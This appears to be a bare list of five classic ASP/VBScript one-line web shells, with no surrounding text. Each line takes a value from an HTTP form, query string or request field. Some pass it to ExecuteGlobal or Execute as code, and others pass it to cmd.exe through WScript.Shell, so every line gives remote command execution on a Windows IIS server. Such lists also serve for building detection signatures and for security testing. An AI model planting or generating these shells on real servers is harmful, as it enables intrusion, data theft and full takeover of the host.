<% ExecuteGlobal Unescape( Request.Form( "x" ) ) %>
<% EXECUTE( Trim( Request.QueryString( "c" ) ) ) %>
<% Execute CStr(Request.Item("c")) %>
<% Set s = CreateObject("WScript.Shell") : Set e = s.Exec("cmd.exe /c " & Request("c")) %>
<% Set s = CreateObject("WScript.Shell") : s.Run "cmd /c " & Request.Form("c"), 0 %>
